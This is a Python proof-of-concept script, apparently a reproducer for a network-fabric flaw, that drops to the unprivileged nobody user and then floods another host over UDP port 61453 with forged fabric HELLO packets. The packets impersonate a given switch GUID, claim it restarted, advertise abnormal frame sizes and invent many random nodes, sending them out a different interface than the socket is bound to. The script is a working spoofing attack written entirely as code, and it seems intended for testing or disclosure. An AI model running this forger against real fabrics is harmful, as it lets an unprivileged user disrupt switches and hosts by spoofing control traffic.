#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
"""forger.py - send HELLOs of a fabric in UDP as any user of one of its hosts can

usage: forger.py NETDEV OTHER-NETDEV TO GUID

It is nobody, and has no capabilities. The port of the fabric is free on OTHER-NETDEV; from
there datagrams leave by NETDEV with the fabric's own addresses and ports. They go TO another
host, until the end: HELLOs that the switch here, of GUID, has begun anew, that it takes very
short or very long frames, and that there are many other nodes.
"""
import os
import random
import socket
import struct
import sys
import time
import zlib

PORT = 61453
HELLO = 1
SWITCH = 2
NOBODY = 65534
IP_PKTINFO = 8


def become_nobody():
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    with open("/proc/self/status", encoding="ascii") as f:
        status = dict(line.split(":", 1) for line in f)
    if int(status["CapEff"], 16) or int(status["CapPrm"], 16):
        sys.exit("forger.py: it has capabilities")


def hello(nonce, heard, guid, max_frame, padding=0):
    body = struct.pack("!QHB5x", guid, max_frame, SWITCH) + bytes(padding)
    head = struct.pack("!BBBBIIIIHH", 1, HELLO, 0, 0, 0, 0, nonce, heard, 0, len(body))
    return head + zlib.crc32(head + bytes(4) + body).to_bytes(4, "little") + body


def words(source, guid):
    """Without end: what a host might say that has begun anew, and what many others might."""
    while True:
        nonce = source.getrandbits(32) | 1
        for who in guid, source.getrandbits(64) | 1:
            yield hello(0, 0, who, 1500)
            yield hello(nonce, 0, who, source.choice((512, 600, 65535)), source.choice((0, 500)))
            yield hello(nonce, source.getrandbits(32), who, 512)


def main(netdev, other, to, guid):
    index = socket.if_nametoindex(netdev)
    become_nobody()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, other.encode() + b"\0")
        sock.bind(("", PORT))
        info = [(socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=iII", index, 0, 0))]
        sent = 0
        for word in words(random.Random(1), int(guid, 16)):
            sock.sendmsg([word], info, 0, (to, PORT))
            sent += 1
            if sent == 1:
                print("it begins", flush=True)
            if sent % 16 == 0:
                time.sleep(0.004)


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    main(*sys.argv[1:])
